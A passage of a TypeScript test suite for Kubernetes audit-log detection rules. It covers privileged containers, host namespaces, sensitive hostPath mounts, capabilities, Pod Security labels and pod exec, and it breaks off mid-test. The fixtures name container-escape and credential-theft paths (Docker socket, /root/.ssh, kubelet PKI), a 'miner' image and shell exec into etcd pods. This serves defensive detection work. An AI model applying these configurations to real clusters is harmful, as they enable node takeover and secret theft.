// Workload rules (README "Detection rules"). Reads ../shared/corpus (Falco's k8s_audit traces, with the outcomes of
// ../shared/corpus/falco-k8s-audit/EXPECTED.md); every other event here is written from the Kubernetes
// documentation: Pod Security Standards, "Configure a Security Context for a Pod or Container", the Pod,
// workload and ephemeral-container API references, Pod Security admission labels, kubectl exec/cp/debug.
import { describe, expect, it } from 'vitest';
import type { Finding } from '#shared/contracts';
import { builtinRules, createEngine, defaultRuleSettings, type RuleSettings } from '#shared/engine';
import { corpusLines, envelopeOf } from '#shared/testing';
import { ruleFindings } from './helpers.js';

const workloadIds = [
  'privileged-container',
  'host-namespace',
  'sensitive-host-mount',
  'dangerous-capability',
  'insecure-security-context',
  'selinux-override',
  'host-port',
  'unpinned-image',
  'untrusted-registry',
  'pod-security-violation',
  'pod-security-weakened',
  'workload-in-system-namespace',
  'pod-exec',
  'pod-exec-suspicious-command',
  'port-forward',
  'ephemeral-container',
  'quota-or-limits-removed',
];
const workloadRules = builtinRules.filter((r) => workloadIds.includes(r.id));

function findings(event: unknown, settings: Partial<RuleSettings> = {}): Finding[] {
  const engine = createEngine({ rules: workloadRules, settings: { ...defaultRuleSettings, ...settings } });
  return engine.analyze(envelopeOf(event)).findings;
}
const fired = (event: unknown, settings: Partial<RuleSettings> = {}) => findings(event, settings).map((f) => f.ruleId).sort();
function evidenceOf(event: unknown, ruleId: string, settings: Partial<RuleSettings> = {}): Record<string, unknown> {
  const f = findings(event, settings).find((x) => x.ruleId === ruleId);
  if (!f) throw new Error(`${ruleId} did not fire`);
  return f.evidence;
}

// Digest-pinned images keep unpinned-image out of the cases that are not about it.
const digest = `sha256:${'a'.repeat(64)}`;
const app = `registry.example.com/shop/web@${digest}`;
const sidecar = `registry.example.com/shop/proxy@${digest}`;

const base = {
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  level: 'RequestResponse',
  auditID: '7c1c1b2e-0000-4000-8000-00000000a001',
  stage: 'ResponseComplete',
  user: { username: 'jane', groups: ['system:authenticated'] },
  sourceIPs: ['10.0.0.7'],
  userAgent: 'kubectl/v1.31.0 (linux/amd64) kubernetes/abcdef',
  responseStatus: { code: 201 },
  requestReceivedTimestamp: '2026-03-01T10:00:00.000000Z',
  stageTimestamp: '2026-03-01T10:00:00.120000Z',
};

type Spec = Record<string, unknown>;
const container = (extra: Spec = {}): Spec => ({ name: 'web', image: app, ...extra });
const podSpec = (extra: Spec = {}, containers: Spec[] = [container()]): Spec => ({ containers, ...extra });

/** A Pod create at level Request (the request body is the written object). */
function podCreate(spec: Spec, opts: { namespace?: string; name?: string; annotations?: Record<string, string> } = {}) {
  const { namespace = 'default', name = 'web', annotations } = opts;
  return {
    ...base,
    level: 'Request',
    verb: 'create',
    requestURI: `/api/v1/namespaces/${namespace}/pods`,
    objectRef: { resource: 'pods', namespace, name, apiVersion: 'v1' },
    requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name, namespace, ...(annotations ? { annotations } : {}) }, spec },
  };
}

const workloadKinds = {
  Deployment: { group: 'apps', resource: 'deployments' },
  DaemonSet: { group: 'apps', resource: 'daemonsets' },
  StatefulSet: { group: 'apps', resource: 'statefulsets' },
  ReplicaSet: { group: 'apps', resource: 'replicasets' },
  ReplicationController: { group: '', resource: 'replicationcontrollers' },
  Job: { group: 'batch', resource: 'jobs' },
  CronJob: { group: 'batch', resource: 'cronjobs' },
} as const;
type WorkloadKind = keyof typeof workloadKinds;

function workloadObject(kind: WorkloadKind, spec: Spec, annotations?: Record<string, string>) {
  const template = { metadata: { labels: { app: 'web' }, ...(annotations ? { annotations } : {}) }, spec };
  const { group } = workloadKinds[kind];
  const apiVersion = group === '' ? 'v1' : `${group}/v1`;
  const metadata = { name: 'web', namespace: 'default' };
  if (kind === 'CronJob') return { kind, apiVersion, metadata, spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template } } } };
  return { kind, apiVersion, metadata, spec: { selector: { matchLabels: { app: 'web' } }, template } };
}

function workloadCreate(kind: WorkloadKind, spec: Spec, namespace = 'default') {
  const { group, resource } = workloadKinds[kind];
  const prefix = group === '' ? '/api/v1' : `/apis/${group}/v1`;
  return {
    ...base,
    level: 'Request',
    verb: 'create',
    requestURI: `${prefix}/namespaces/${namespace}/${resource}`,
    objectRef: { resource, namespace, name: 'web', apiGroup: group, apiVersion: 'v1' },
    requestObject: { ...workloadObject(kind, spec), metadata: { name: 'web', namespace } },
  };
}

/** A `verb` of the object at `requestURI` that succeeded (200), at level RequestResponse unless `extra` says otherwise. */
function objectWrite(verb: string, requestURI: string, objectRef: Spec, extra: Spec = {}) {
  return { ...base, verb, responseStatus: { code: 200 }, requestURI, objectRef, ...extra };
}

describe('the workload family', () => {
  it('is registered in builtinRules with the catalogue’s ids and severities', () => {
    const ids = createEngine().rules.map((r) => r.id);
    for (const id of workloadIds) expect(ids).toContain(id);
    const severity = Object.fromEntries(workloadRules.map((r) => [r.id, r.severity]));
    expect(severity).toEqual({
      'privileged-container': 'high',
      'host-namespace': 'high',
      'sensitive-host-mount': 'high',
      'dangerous-capability': 'high',
      'insecure-security-context': 'medium',
      'selinux-override': 'medium',
      'host-port': 'medium',
      'unpinned-image': 'low',
      'untrusted-registry': 'medium',
      'pod-security-violation': 'medium',
      'pod-security-weakened': 'high',
      'workload-in-system-namespace': 'medium',
      'pod-exec': 'medium',
      'pod-exec-suspicious-command': 'high',
      'port-forward': 'low',
      'ephemeral-container': 'medium',
      'quota-or-limits-removed': 'medium',
    });
    expect(workloadRules.every((r) => r.category === 'workload' && r.mitre.length > 0)).toBe(true);
  });

  it('stays silent on a Pod that meets the Restricted Pod Security Standard', () => {
    // The Restricted profile: non-root, no privilege escalation, RuntimeDefault seccomp, all capabilities dropped.
    const restricted = podSpec({ securityContext: { runAsNonRoot: true, runAsUser: 1000, seccompProfile: { type: 'RuntimeDefault' } } }, [
      container({
        ports: [{ containerPort: 8080 }],
        securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'], add: ['NET_BIND_SERVICE'] } },
      }),
    ]);
    expect(fired(podCreate(restricted))).toEqual([]);
  });
});

describe('privileged-container', () => {
  const privileged = podSpec({}, [container({ securityContext: { privileged: true } })]);

  it('fires on a privileged container and names it in the evidence', () => {
    const event = podCreate(privileged);
    expect(fired(event)).toEqual(['privileged-container']);
    const [f] = findings(event);
    expect(f).toMatchObject({ severity: 'high', mitre: ['T1611', 'T1610'], user: 'jane', resource: 'pods', namespace: 'default' });
    expect(f?.evidence).toEqual({ containers: [{ name: 'web', kind: 'container', image: app }] });
    expect(f?.summary).toBe('jane created Pod default/web with privileged container(s) web.');
  });

  it.each(Object.keys(workloadKinds) as WorkloadKind[])('fires on the pod template of a %s', (kind) => {
    const event = workloadCreate(kind, privileged);
    expect(fired(event)).toEqual(['privileged-container']);
    expect(findings(event)[0]?.summary).toContain(`${kind} default/web`);
  });

  it('looks at initContainers and ephemeralContainers too', () => {
    const spec = podSpec({
      initContainers: [{ name: 'init', image: sidecar, securityContext: { privileged: true } }],
      ephemeralContainers: [{ name: 'debug', image: sidecar, targetContainerName: 'web', securityContext: { privileged: true } }],
    });
    expect(evidenceOf(podCreate(spec), 'privileged-container')).toEqual({
      containers: [
        { name: 'init', kind: 'initContainer', image: sidecar },
        { name: 'debug', kind: 'ephemeralContainer', image: sidecar },
      ],
    });
  });

  it('treats a Windows HostProcess pod as privileged', () => {
    const spec = podSpec({ hostNetwork: true, securityContext: { windowsOptions: { hostProcess: true, runAsUserName: 'NT AUTHORITY\\SYSTEM' } } });
    expect(evidenceOf(podCreate(spec), 'privileged-container')).toEqual({ containers: [{ name: 'web', kind: 'container', image: app, hostProcess: true }] });
  });

  it('does not fire on privileged: false or without a securityContext', () => {
    expect(fired(podCreate(podSpec({}, [container({ securityContext: { privileged: false } })])))).toEqual([]);
    expect(fired(podCreate(podSpec()))).toEqual([]);
  });

  it('exempts trusted images (prefix at a component boundary, as written or normalized)', () => {
    const event = podCreate(privileged);
    expect(fired(event, { trustedImages: ['registry.example.com/shop/web'] })).toEqual([]);
    expect(fired(event, { trustedImages: ['registry.example.com/shop/'] })).toEqual([]);
    expect(fired(event, { trustedImages: ['registry.example.com/shop/we'] })).toEqual(['privileged-container']);
    const nginx = podCreate(podSpec({}, [container({ image: 'nginx:1.27', securityContext: { privileged: true } })]));
    expect(fired(nginx, { trustedImages: ['docker.io/library/nginx'] })).toEqual(['unpinned-image']);
    expect(fired(nginx, { trustedImages: ['nginx'] })).toEqual(['unpinned-image']);
  });
});

describe('host-namespace', () => {
  it('fires on hostNetwork, hostPID and hostIPC', () => {
    const event = podCreate(podSpec({ hostNetwork: true, hostPID: true, hostIPC: true }));
    expect(fired(event)).toEqual(['host-namespace']);
    expect(evidenceOf(event, 'host-namespace')).toEqual({ hostNamespaces: ['hostNetwork', 'hostPID', 'hostIPC'] });
  });

  it('fires on a DaemonSet template with hostPID', () => {
    expect(evidenceOf(workloadCreate('DaemonSet', podSpec({ hostPID: true })), 'host-namespace')).toEqual({ hostNamespaces: ['hostPID'] });
  });

  it('does not fire when the host namespaces are off', () => {
    expect(fired(podCreate(podSpec({ hostNetwork: false, hostPID: false, hostIPC: false })))).toEqual([]);
  });

  it('is exempt only when every container of the pod runs a trusted image', () => {
    const spec = podSpec({ hostNetwork: true }, [container(), { name: 'proxy', image: sidecar }]);
    expect(fired(podCreate(spec), { trustedImages: ['registry.example.com/shop/web'] })).toEqual(['host-namespace']);
    expect(fired(podCreate(spec), { trustedImages: ['registry.example.com/shop/web', 'registry.example.com/shop/proxy'] })).toEqual([]);
  });
});

describe('sensitive-host-mount', () => {
  const mounting = (hostPath: string, mountedBy: Spec[] = [container({ volumeMounts: [{ name: 'host', mountPath: '/host' }] })]) =>
    podCreate(podSpec({ volumes: [{ name: 'host', hostPath: { path: hostPath, type: '' } }] }, mountedBy));

  it.each([
    ['/', '/'],
    ['/etc', '/etc'],
    ['/etc/kubernetes/manifests', '/etc/kubernetes'],
    ['/var/run/docker.sock', '/var/run/docker.sock'],
    ['/run/containerd/containerd.sock', '/run/containerd/containerd.sock'],
    ['/var/run/crio/crio.sock', '/var/run/crio/crio.sock'],
    ['/var/lib/kubelet/pki', '/var/lib/kubelet'],
    ['/var/lib/docker', '/var/lib/docker'],
    ['/proc', '/proc'],
    ['/root/.ssh', '/root'],
    ['/boot', '/boot'],
    ['/dev', '/dev'],
    ['/sys/fs/cgroup', '/sys'],
    ['/var', '/var/run/docker.sock'],
    ['/etc/../etc/', '/etc'],
  ])('fires on hostPath %s', (hostPath, sensitive) => {
    expect(evidenceOf(mounting(hostPath), 'sensitive-host-mount')).toEqual({
      hostPaths: [{ volume: 'host', path: hostPath, sensitive, mountedBy: ['web'] }],
    });
  });

  it.each(['/usr/local', '/data/app', '/var/log', '/opt', '/etcetera', '/rootfs', '/tmp/../srv'])('does not fire on hostPath %s', (hostPath) => {
    expect(fired(mounting(hostPath))).toEqual([]);
  });

  it('reads its paths from lists.sensitiveHostPaths: a site list replaces the defaults, `*` reports every hostPath', () => {
    expect(fired(mounting('/data/app'), { sensitiveHostPaths: ['/data'] })).toEqual(['sensitive-host-mount']);
    expect(fired(mounting('/etc'), { sensitiveHostPaths: ['/data'] })).toEqual([]);
    expect(fired(mounting('/'), { sensitiveHostPaths: ['/data'] })).toEqual([]);
    expect(evidenceOf(mounting('/mnt/data'), 'sensitive-host-mount', { sensitiveHostPaths: ['*'] })).toMatchObject({ hostPaths: [{ path: '/mnt/data', sensitive: '*' }] });
    expect(fired(podCreate(podSpec({ volumes: [{ name: 'tmp', emptyDir: {} }] })), { sensitiveHostPaths: ['*'] })).toEqual([]);
  });

  it('fires on a Job template, and not on emptyDir or secret volumes', () => {
    expect(fired(workloadCreate('Job', podSpec({ volumes: [{ name: 'h', hostPath: { path: '/var/lib/kubelet' } }] })))).toEqual(['sensitive-host-mount']);
    expect(fired(podCreate(podSpec({ volumes: [{ name: 'tmp', emptyDir: {} }, { name: 's', secret: { secretName: 's' } }] })))).toEqual([]);
  });

  it('is exempt when the containers mounting the volume run trusted images', () => {
    const web = container({ volumeMounts: [{ name: 'host', mountPath: '/host' }] });
    const proxy = { name: 'proxy', image: sidecar };
    const trusted = { trustedImages: ['registry.example.com/shop/web'] };
    expect(fired(mounting('/etc', [web, proxy]), trusted)).toEqual([]);
    const proxyMounting = { ...proxy, volumeMounts: [{ name: 'host', mountPath: '/h' }] };
    expect(evidenceOf(mounting('/etc', [web, proxyMounting]), 'sensitive-host-mount', trusted)).toMatchObject({
      hostPaths: [{ mountedBy: ['web', 'proxy'] }],
    });
  });
});

describe('dangerous-capability', () => {
  const adding = (add: string[], drop: string[] = []) => podCreate(podSpec({}, [container({ securityContext: { capabilities: { add, drop } } })]));

  it('fires on SYS_ADMIN, on the CAP_ prefix and any case, and on ALL', () => {
    expect(evidenceOf(adding(['SYS_ADMIN', 'NET_BIND_SERVICE']), 'dangerous-capability')).toEqual({
      containers: [{ name: 'web', kind: 'container', image: app, capabilities: ['SYS_ADMIN'] }],
    });
    expect(fired(adding(['cap_sys_module']))).toEqual(['dangerous-capability']);
    expect(fired(adding(['all']))).toEqual(['dangerous-capability']);
    for (const cap of ['SYS_PTRACE', 'NET_ADMIN', 'DAC_READ_SEARCH', 'SYS_RAWIO', 'BPF', 'PERFMON', 'SYS_BOOT']) {
      expect(fired(adding([cap])), cap).toEqual(['dangerous-capability']);
    }
  });

  it('does not fire on the capabilities Baseline allows, on NET_RAW, or on dropping', () => {
    expect(fired(adding(['NET_BIND_SERVICE', 'CHOWN', 'SETUID', 'SETGID', 'KILL']))).toEqual([]);
    expect(fired(adding(['NET_RAW']))).toEqual([]);
    expect(fired(adding([], ['ALL', 'SYS_ADMIN']))).toEqual([]);
  });

  it('fires on a StatefulSet init container, and exempts trusted images', () => {
    const spec = podSpec({ initContainers: [{ name: 'sysctl', image: sidecar, securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }] });
    expect(evidenceOf(workloadCreate('StatefulSet', spec), 'dangerous-capability')).toMatchObject({ containers: [{ name: 'sysctl', kind: 'initContainer' }] });
    expect(fired(workloadCreate('StatefulSet', spec), { trustedImages: ['registry.example.com/shop/proxy'] })).toEqual([]);
  });
});

describe('insecure-security-context', () => {
  const issuesOf = (event: unknown) => evidenceOf(event, 'insecure-security-context').containers;

  it('fires on allowPrivilegeEscalation: true and procMount: Unmasked', () => {
    const event = podCreate(podSpec({}, [container({ securityContext: { allowPrivilegeEscalation: true, procMount: 'Unmasked' } })]));
    expect(issuesOf(event)).toEqual([{ name: 'web', kind: 'container', image: app, issues: ['allowPrivilegeEscalation: true', 'procMount: Unmasked'] }]);
  });

  it('takes runAsUser from the pod unless the container overrides it', () => {
    expect(issuesOf(podCreate(podSpec({ securityContext: { runAsUser: 0 } })))).toMatchObject([{ issues: ['runAsUser: 0 (pod)'] }]);
    expect(fired(podCreate(podSpec({ securityContext: { runAsUser: 0 } }, [container({ securityContext: { runAsUser: 1000 } })])))).toEqual([]);
    const rootContainer = podCreate(podSpec({ securityContext: { runAsUser: 1000 } }, [container({ securityContext: { runAsUser: 0 } })]));
    expect(issuesOf(rootContainer)).toMatchObject([{ issues: ['runAsUser: 0 (container)'] }]);
  });

  it('fires on runAsNonRoot: false without a runAsUser (the image decides, root unless it says otherwise), not when a non-root runAsUser is set', () => {
    expect(issuesOf(podCreate(podSpec({}, [container({ securityContext: { runAsNonRoot: false } })])))).toMatchObject([
      { issues: ['runAsNonRoot: false without runAsUser (container)'] },
    ]);
    expect(issuesOf(podCreate(podSpec({ securityContext: { runAsNonRoot: false } })))).toMatchObject([{ issues: ['runAsNonRoot: false without runAsUser (pod)'] }]);
    expect(fired(podCreate(podSpec({ securityContext: { runAsNonRoot: false, runAsUser: 1000 } })))).toEqual([]);
    expect(fired(podCreate(podSpec({ securityContext: { runAsNonRoot: false } }, [container({ securityContext: { runAsNonRoot: true } })])))).toEqual([]);
    expect(fired(podCreate(podSpec()))).toEqual([]);
  });

  it('fires on an Unconfined seccomp profile, by field or legacy annotation, unless the container sets its own', () => {
    expect(issuesOf(podCreate(podSpec({ securityContext: { seccompProfile: { type: 'Unconfined' } } })))).toMatchObject([
      { issues: ['seccomp: Unconfined (pod)'] },
    ]);
    const annotated = podCreate(podSpec(), { annotations: { 'seccomp.security.alpha.kubernetes.io/pod': 'unconfined' } });
    expect(issuesOf(annotated)).toMatchObject([{ issues: ['seccomp: Unconfined (annotation seccomp.security.alpha.kubernetes.io/pod)'] }]);
    const overridden = podCreate(podSpec({}, [container({ securityContext: { seccompProfile: { type: 'RuntimeDefault' } } })]), {
      annotations: { 'seccomp.security.alpha.kubernetes.io/pod': 'unconfined' },
    });
    expect(fired(overridden)).toEqual([]);
    expect(fired(podCreate(podSpec({ securityContext: { seccompProfile: { type: 'RuntimeDefault' } } })))).toEqual([]);
  });

  it('fires on an Unconfined AppArmor profile, by field or legacy per-container annotation', () => {
    expect(issuesOf(podCreate(podSpec({}, [container({ securityContext: { appArmorProfile: { type: 'Unconfined' } } })])))).toMatchObject([
      { issues: ['appArmor: Unconfined (container)'] },
    ]);
    const template = { ...workloadCreate('Deployment', podSpec()) };
    template.requestObject = workloadObject('Deployment', podSpec(), { 'container.apparmor.security.beta.kubernetes.io/web': 'unconfined' });
    expect(issuesOf(template)).toMatchObject([{ issues: ['appArmor: Unconfined (annotation container.apparmor.security.beta.kubernetes.io/web)'] }]);
    const runtimeDefault = podCreate(podSpec(), { annotations: { 'container.apparmor.security.beta.kubernetes.io/web': 'runtime/default' } });
    expect(fired(runtimeDefault)).toEqual([]);
  });

  it('exempts trusted images', () => {
    const event = podCreate(podSpec({}, [container({ securityContext: { allowPrivilegeEscalation: true } })]));
    expect(fired(event, { trustedImages: ['registry.example.com/shop/web'] })).toEqual([]);
  });
});

describe('selinux-override', () => {
  it('fires on spc_t, unconfined_t and a custom user or role', () => {
    const container_ = podCreate(podSpec({}, [container({ securityContext: { seLinuxOptions: { type: 'spc_t' } } })]));
    expect(evidenceOf(container_, 'selinux-override')).toEqual({
      seLinux: [{ scope: 'container', name: 'web', kind: 'container', image: app, seLinuxOptions: { type: 'spc_t' } }],
    });
    const pod = podCreate(podSpec({ securityContext: { seLinuxOptions: { type: 'unconfined_t', user: 'system_u', role: 'system_r' } } }));
    expect(evidenceOf(pod, 'selinux-override')).toEqual({
      seLinux: [{ scope: 'pod', seLinuxOptions: { type: 'unconfined_t', user: 'system_u', role: 'system_r' } }],
    });
    expect(fired(podCreate(podSpec({ securityContext: { seLinuxOptions: { user: 'sysadm_u' } } })))).toEqual(['selinux-override']);
  });

  it('does not fire on the container types and MCS levels Baseline allows', () => {
    const spec = podSpec({ securityContext: { seLinuxOptions: { level: 's0:c123,c456' } } }, [
      container({ securityContext: { seLinuxOptions: { type: 'container_init_t' } } }),
    ]);
    expect(fired(podCreate(spec))).toEqual([]);
  });
});

describe('host-port', () => {
  it('fires on a container port with a hostPort', () => {
    const event = workloadCreate('DaemonSet', podSpec({}, [container({ ports: [{ containerPort: 9100, hostPort: 9100, protocol: 'TCP' }] })]));
    expect(evidenceOf(event, 'host-port')).toEqual({ ports: [{ container: 'web', hostPort: 9100, containerPort: 9100, protocol: 'TCP' }] });
  });

  it('does not fire on container ports only, or hostPort 0', () => {
    expect(fired(podCreate(podSpec({}, [container({ ports: [{ containerPort: 8080 }, { containerPort: 8443, hostPort: 0 }] })])))).toEqual([]);
  });
});

describe('unpinned-image', () => {
  it('fires on tags and bare names, in every container kind', () => {
    const spec = podSpec({ initContainers: [{ name: 'init', image: 'busybox' }] }, [container({ image: 'nginx:1.27' })]);
    expect(evidenceOf(podCreate(spec), 'unpinned-image')).toEqual({
      containers: [
        { name: 'web', kind: 'container', image: 'nginx:1.27' },
        { name: 'init', kind: 'initContainer', image: 'busybox' },
      ],
    });
    expect(fired(podCreate(podSpec({}, [container({ image: 'nginx@sha256:abc' })])))).toEqual(['unpinned-image']);
  });

  it('does not fire on images pinned by digest, with or without a tag', () => {
    expect(fired(podCreate(podSpec({}, [container({ image: `nginx:1.27@${digest}` })])))).toEqual([]);
    expect(fired(workloadCreate('CronJob', podSpec()))).toEqual([]);
  });
});

describe('untrusted-registry', () => {
  const images = (...list: string[]) => podCreate(podSpec({}, list.map((image, i) => ({ name: `c${i}`, image: `${image}@${digest}` }))));
  const registries = (event: unknown, allowedRegistries: string[]) =>
    (evidenceOf(event, 'untrusted-registry', { allowedRegistries }).containers as { registry: string }[]).map((c) => c.registry);

  it('is off while allowedRegistries is empty', () => {
    expect(fired(images('nginx', 'evil.example.net/miner'))).toEqual([]);
  });

  it('applies the Docker reference rules for the registry', () => {
    const event = images('nginx', 'myorg/app', 'localhost/dev', 'localhost:5000/dev', 'evil.example.net/miner', 'registry.example.com/shop/web');
    expect(registries(event, ['registry.example.com'])).toEqual(['docker.io', 'docker.io', 'localhost', 'localhost:5000', 'evil.example.net']);
  });

  it('accepts listed registries, docker.io for bare names, and registry/path entries', () => {
    expect(fired(images('nginx', 'registry.example.com/shop/web'), { allowedRegistries: ['docker.io', 'registry.example.com'] })).toEqual([]);
    const gcr = images('gcr.io/my-project/app', 'gcr.io/other-project/app');
    expect(registries(gcr, ['gcr.io/my-project'])).toEqual(['gcr.io']);
    expect(evidenceOf(gcr, 'untrusted-registry', { allowedRegistries: ['gcr.io/my-project'] })).toMatchObject({
      containers: [{ name: 'c1', image: `gcr.io/other-project/app@${digest}` }],
    });
  });
});

describe('pod-security-violation', () => {
  const violations =
    'would violate PodSecurity "restricted:latest": allowPrivilegeEscalation != false (container "web" must set securityContext.allowPrivilegeEscalation=false)';

  it('fires on the audit-violations annotation', () => {
    const event = { ...podCreate(podSpec()), annotations: { 'pod-security.kubernetes.io/audit-violations': violations } };
    expect(fired(event)).toEqual(['pod-security-violation']);
    expect(evidenceOf(event, 'pod-security-violation')).toEqual({ violations, policy: 'restricted:latest' });
    expect(findings(event)[0]?.summary).toBe(
      'jane\'s create of pods default/web violates Pod Security "restricted:latest": allowPrivilegeEscalation != false (container "web" must set securityContext.allowPrivilegeEscalation=false).',
    );
  });

  it('does not fire on the enforce-policy annotation alone', () => {
    expect(fired({ ...podCreate(podSpec()), annotations: { 'pod-security.kubernetes.io/enforce-policy': 'baseline:latest' } })).toEqual([]);
  });
});

describe('pod-security-weakened', () => {
  const enforce = 'pod-security.kubernetes.io/enforce';
  const ns = (labels: Record<string, string>) => ({ kind: 'Namespace', apiVersion: 'v1', metadata: { name: 'team-a', labels } });
  const nsWrite = (verb: string, extra: Spec) => ({
    ...base,
    verb,
    responseStatus: { code: verb === 'create' ? 201 : 200 },
    requestURI: verb === 'create' ? '/api/v1/namespaces' : '/api/v1/namespaces/team-a',
    objectRef: { resource: 'namespaces', name: 'team-a', apiVersion: 'v1' },
    ...extra,
  });

  it('fires when a namespace is created or patched with enforce=privileged', () => {
    const created = nsWrite('create', { level: 'Request', requestObject: ns({ [enforce]: 'privileged' }) });
    expect(fired(created)).toEqual(['pod-security-weakened']);
    expect(evidenceOf(created, 'pod-security-weakened')).toEqual({ namespace: 'team-a', label: enforce, value: 'privileged' });
    const patched = nsWrite('patch', { level: 'Request', requestObject: { metadata: { labels: { [enforce]: 'privileged' } } } });
    expect(fired(patched)).toEqual(['pod-security-weakened']);
  });

  it('fires when an update/patch leaves the stored namespace without the enforce label', () => {
    const update = nsWrite('update', { requestObject: ns({ team: 'a' }), responseObject: ns({ team: 'a' }) });
    expect(evidenceOf(update, 'pod-security-weakened')).toEqual({ namespace: 'team-a', label: enforce, value: null });
    const mergePatch = nsWrite('patch', { level: 'Request', requestObject: { metadata: { labels: { [enforce]: null } } } });
    expect(fired(mergePatch)).toEqual(['pod-security-weakened']);
    const jsonPatch = nsWrite('patch', { level: 'Request', requestObject: [{ op: 'remove', path: '/metadata/labels/pod-security.kubernetes.io~1enforce' }] });
    expect(fired(jsonPatch)).toEqual(['pod-security-weakened']);
  });

  it('compares with the namespace’s last known label: an unchanged re-apply weakens nothing, a change does', () => {
    const engine = createEngine({ rules: workloadRules, settings: defaultRuleSettings });
    const run = (event: unknown) => engine.analyze(envelopeOf(event)).findings.filter((f) => f.ruleId === 'pod-security-weakened');
    const update = (labels: Record<string, string>) => nsWrite('update', { requestObject: ns(labels), responseObject: ns(labels) });
    expect(run(nsWrite('create', { level: 'Request', requestObject: ns({ [enforce]: 'restricted' }) }))).toEqual([]);
    const [weakened] = run(update({ [enforce]: 'privileged' }));
    expect(weakened?.evidence).toEqual({ namespace: 'team-a', label: enforce, value: 'privileged', was: 'restricted' });
    // the same namespace applied again, unchanged (an operator's reconcile loop, kubectl apply)
    expect(run(update({ [enforce]: 'privileged' }))).toEqual([]);
    expect(run(nsWrite('patch', { level: 'Request', requestObject: { metadata: { labels: { [enforce]: 'privileged' } } } }))).toEqual([]);
    // privileged → no label: the cluster default applies, which is no weakening
    expect(run(update({ team: 'a' }))).toEqual([]);
    expect(run(update({ team: 'a' }))).toEqual([]);
    // back to privileged from the default: weakened again
    expect(run(update({ [enforce]: 'privileged' }))[0]?.evidence).toMatchObject({ was: null });
    // another cluster's namespace of the same name is its own: nothing known of it, so the label is a weakening
    expect(engine.analyze(envelopeOf(update({ [enforce]: 'privileged' }), 'staging')).findings.map((f) => f.ruleId)).toContain('pod-security-weakened');
  });

  it('does not fire on baseline/restricted, on a patch of other labels, or on create without the label', () => {
    expect(fired(nsWrite('create', { level: 'Request', requestObject: ns({ [enforce]: 'baseline' }) }))).toEqual([]);
    expect(fired(nsWrite('update', { requestObject: ns({ [enforce]: 'restricted' }), responseObject: ns({ [enforce]: 'restricted' }) }))).toEqual([]);
    expect(fired(nsWrite('patch', { level: 'Request', requestObject: { metadata: { labels: { team: 'b' } } } }))).toEqual([]);
    // Documented: a namespace created without the label gets the cluster-wide default, which is not a weakening.
    expect(fired(nsWrite('create', { level: 'Request', requestObject: ns({}) }))).toEqual([]);
    // A failed change weakens nothing.
    expect(fired(nsWrite('patch', { level: 'Request', responseStatus: { code: 403 }, requestObject: { metadata: { labels: { [enforce]: 'privileged' } } } }))).toEqual([]);
  });
});

describe('workload-in-system-namespace', () => {
  it('fires when a person creates a pod or a workload in kube-system or kube-public', () => {
    const event = podCreate(podSpec(), { namespace: 'kube-system', name: 'debug' });
    expect(fired(event)).toEqual(['workload-in-system-namespace']);
    expect(evidenceOf(event, 'workload-in-system-namespace')).toEqual({ namespace: 'kube-system', kind: 'Pod', name: 'debug' });
    expect(fired(workloadCreate('DaemonSet', podSpec(), 'kube-public'))).toEqual(['workload-in-system-namespace']);
  });

  it('does not fire for system identities, other namespaces, updates or evictions', () => {
    const bySystem = { ...podCreate(podSpec(), { namespace: 'kube-system' }), user: { username: 'system:serviceaccount:kube-system:daemon-set-controller' } };
    expect(fired(bySystem)).toEqual([]);
    expect(fired(podCreate(podSpec(), { namespace: 'team-a' }))).toEqual([]);
    const eviction = {
      ...base,
      level: 'Metadata',
      verb: 'create',
      requestURI: '/api/v1/namespaces/kube-system/pods/coredns-1/eviction',
      objectRef: { resource: 'pods', subresource: 'eviction', namespace: 'kube-system', name: 'coredns-1', apiVersion: 'v1' },
    };
    expect(fired(eviction)).toEqual([]);
  });

  it('uses settings.systemNamespaces', () => {
    const event = podCreate(podSpec(), { namespace: 'platform' });
    expect(fired(event, { systemNamespaces: ['platform'] })).toEqual(['workload-in-system-namespace']);
    expect(fired(podCreate(podSpec(), { namespace: 'kube-system' }), { systemNamespaces: ['platform'] })).toEqual([]);
  });
});

function podSubresource(subresource: string, query: string, verb = 'create', code = 101) {
  return {
    ...base,
    level: 'Metadata',
    stage: 'ResponseStarted',
    verb,
    responseStatus: { code },
    requestURI: `/api/v1/namespaces/shop/pods/web-0/${subresource}${query}`,
    objectRef: { resource: 'pods', subresource, namespace: 'shop', name: 'web-0', apiVersion: 'v1' },
  };
}

describe('pod-exec', () => {
  it('fires on exec with POST (SPDY) and GET (websockets, kubectl >= 1.30), and on attach', () => {
    const spdy = podSubresource('exec', '?command=sh&container=web&stdin=true&tty=true');
    expect(fired(spdy)).toEqual(['pod-exec']);
    expect(evidenceOf(spdy, 'pod-exec')).toEqual({ pod: 'web-0', namespace: 'shop', subresource: 'exec', container: 'web', command: ['sh'] });
    expect(fired(podSubresource('exec', '?command=ls&container=web', 'get'))).toEqual(['pod-exec']);
    expect(evidenceOf(podSubresource('attach', '?container=web&stdin=true', 'get'), 'pod-exec')).toEqual({
      pod: 'web-0',
      namespace: 'shop',
      subresource: 'attach',
      container: 'web',
    });
  });

  it('is high for an exec into a control-plane pod (kube-apiserver, etcd: static pods named <component>-<node>), medium elsewhere', () => {
    const into = (namespace: string, name: string) => ({
      ...podSubresource('exec', '?command=sh&container=etcd&stdin=true&tty=true'),
      requestURI: `/api/v1/namespaces/${namespace}/pods/${name}/exec?command=sh&container=etcd&stdin=true&tty=true`,
      objectRef: { resource: 'pods', subresource: 'exec', namespace, name, apiVersion: 'v1' },
    });
    const severityOf = (event: unknown, settings: Partial<RuleSettings> = {}) => findings(event, settings).find((f) => f.ruleId === 'pod-exec')?.severity;
    expect(severityOf(into('kube-system', 'etcd-control-plane-1'))).toBe('high');
    expect(severityOf(into('kube-system', 'kube-apiserver-cp-1'))).toBe('high');
    expect(severityOf(into('openshift-etcd', 'etcd-master-0'))).toBe('high');
    expect(evidenceOf(into('kube-system', 'etcd-control-plane-1'), 'pod-exec')).toMatchObject({ controlPlane: true });
    expect(findings(into('kube-system', 'etcd-control-plane-1')).find((f) => f.ruleId === 'pod-exec')?.summary).toContain('control-plane pod kube-system/etcd-control-plane-1');
    expect(severityOf(into('kube-system', 'coredns-5d78c9869d-abcde'))).toBe('medium');
